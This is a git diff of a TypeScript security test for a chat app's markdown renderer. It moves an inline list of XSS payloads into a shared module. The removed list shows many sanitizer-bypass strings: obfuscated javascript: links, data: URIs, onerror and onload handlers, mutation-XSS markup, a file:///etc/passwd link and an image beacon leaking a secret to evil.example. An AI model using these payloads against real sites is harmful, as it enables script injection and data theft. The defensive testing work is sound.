@@ -4,40 +4,8 @@ import { LiveMarkdown } from "../../../app/chat/markdown/live-markdown.server.ts
 import { renderMarkdown } from "../../../app/chat/markdown/render.server.ts";
 import { ALLOWED, isAllowedHref, type Tree } from "../../../app/chat/markdown/tree.ts";
 import { TreeView } from "../../../app/chat/markdown/tree-view.tsx";
+import { ATTACKS } from "../../support/markdown-attacks.ts";
 import { chop, seededRandom } from "./random.ts";
-
-const XSS = [
-	"[a](javascript:alert(1))",
-	"[a](JaVaScRiPt:alert(1))",
-	"[a](&#106;avascript:alert(1))",
-	"[a](&#x6A;avascript&colon;alert(1))",
-	"[a](java\tscript:alert(1))",
-	"[a](<java\nscript:alert(1)>)",
-	"[a](\u0001javascript:alert(1))",
-	"[a](%6Aavascript:alert(1))",
-	"[a](vbscript:msgbox(1))",
-	"[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-	"[a](data:image/svg+xml;base64,PHN2Zz4=)",
-	"[a](file:///etc/passwd) [b](blob:x) [c](about:blank) [d](tel:1) [e](ws://a.example)",
-	"[a](//evil.example) [b](/\\evil.example) [c](/\t/evil.example) [d](\\\\evil.example) [e](https:evil.example)",
-	"[a](http://) [b](https:// evil) [c](?q=1) [d](#x) [e](../x) [f](/%0d%0aSet-Cookie:a)",
-	"<javascript:alert(1)> <data:text/html,x> javascript:alert(1)",
-	"![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c](https://evil.example/?q=secret)",
-	'![a](https://evil.example/x.png" onerror="alert(1)) [b](https://a.example "\\" onmouseover=alert(1) x=\\"")',
-	"[a]: javascript:alert(1)\n\n[a] ![a]",
-	"[a]: data:text/html,x 'onload'\n\n[a][]",
-	"<script>alert(1)</script>\n\n<svg onload=alert(1)>\n\n<img src=x onerror=alert(1)>",
-	"<iframe srcdoc='<script>'></iframe><style>*{background:url(//evil.example)}</style>",
-	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-	"<a href=javascript:alert(1)>x</a> <details open ontoggle=alert(1)> <form action=//evil.example>",
-	"```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
-	'```"><img/src=x>\nx\n```\n\n~~~js" onclick="alert(1)\nx',
-	"| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
-	"- [x] <input onfocus=alert(1) autofocus>",
-	'$\\href{javascript:alert(1)}{x}$\n\n```mermaid\nclick A href "javascript:alert(1)"\n```',
-	"https://a.example/'onclick='alert(1) www.a.example\"><script> a@b.example?subject=<script>",
-	"</script><!-- \u2028 ]]> <![CDATA[ <?php",
-];
 
 function elements(trees: readonly Tree[]): Exclude<Tree, string>[] {
 	return trees.flatMap((tree) => {
@@ -54,7 +22,7 @@ const htmlOf = (blocks: readonly Tree[]) =>
 /** The tags of a piece of HTML, with the attributes they bear. */
 const tagsOf = (html: string) => html.match(/<[^>]+>/g) ?? [];
 
-describe.each(XSS)("security 44: %j", (markdown) => {
+describe.each(ATTACKS)("security 44: %j", (markdown) => {
 	test("makes only known elements with known attributes and known links", () => {
 		for (const [tag, attributes] of elements(renderMarkdown(markdown))) {
 			expect(ALLOWED.has(tag)).toBe(true);
